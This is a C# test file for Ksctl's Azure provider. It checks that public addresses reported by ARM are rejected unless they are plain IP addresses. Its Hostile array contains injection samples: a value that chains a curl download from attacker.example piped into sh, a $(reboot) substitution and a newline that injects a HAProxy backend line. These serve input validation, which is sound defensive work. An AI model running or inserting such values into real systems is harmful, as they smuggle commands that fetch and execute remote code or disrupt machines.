using Ksctl.Core.Clusters;
using Ksctl.Core.Diagnostics;
using Ksctl.Core.Model;

namespace Ksctl.Azure.Tests;

/// <summary>
/// Issue #12 (Azure): an address ARM reports reaches SSH targets, scripts and HAProxy's configuration, so it is
/// recorded only once it is a plain IP address. No test machines are needed: the VMs never boot, and the create must
/// stop before any connection is tried.
/// </summary>
[Collection(AzureEnvironmentCollection.Name)]
public sealed class AzureMachineAddressTests : IAsyncLifetime
{
    private AzureTestBed _bed = null!;

    public async Task InitializeAsync()
    {
        _bed = await AzureTestBed.StartAsync();
        _bed.UseEnvironmentCredential();
    }

    public async Task DisposeAsync() => await _bed.DisposeAsync();

    private static readonly string[] Hostile =
    [
        "20.30.40.5; curl https://attacker.example/x | sh",
        "20.30.40.5\nbackend evil",
        "$(reboot)",
        "attacker.example",
        "020.030.040.005",
        "'20.30.40.7'",
        "20.30.40.8 ",
    ];

    [Fact]
    public async Task A_public_address_that_is_not_an_IP_is_never_recorded()
    {
        // Each of the cluster's seven machines gets another hostile value (one create covers them all).
        var next = 0;
        _bed.Arm.ReportedPublicIp = _ => Hostile[(Interlocked.Increment(ref next) - 1) % Hostile.Length];
        var spec = new ClusterSpec { Id = new ClusterId(CloudProvider.Azure, ClusterType.SelfManaged, "ha", "eastus"), WorkerCount = 0 };
        using var manager = _bed.NewManager();

        var e = await Assert.ThrowsAsync<PlanFailedException>(() => manager.CreateAsync(spec, new OperationOptions { ConnectDeadline = TimeSpan.FromSeconds(5) }, CancellationToken.None));

        Assert.Equal("KsctlCreationFailed", e.ErrorId);
        Assert.Equal(Hostile.Length, next);
        var cause = Assert.IsAssignableFrom<KsctlException>(e.InnerException);
        Assert.Equal("KsctlCloudApiError", cause.ErrorId);
        var state = await manager.GetAsync(spec.Id, CancellationToken.None);
        Assert.Equal(ClusterStatus.CreationFailed, state.Status);
        Assert.Equal(Hostile.Length, state.LastErrors.Count(l => l.Contains("is not an IP address")));
        Assert.Empty(state.Nodes);
        var recorded = System.Text.Json.JsonSerializer.Serialize(state);
        var output = await _bed.AllOutputAsync();
        foreach (var value in Hostile)
        {
            Assert.DoesNotContain(value, recorded);
            Assert.DoesNotContain(value, output);
        }

        // What was created is still deleted completely.
        await manager.DeleteAsync(spec.Id, OperationOptions.Default, CancellationToken.None);
        Assert.Empty(_bed.Arm.Inventory);
    }
}
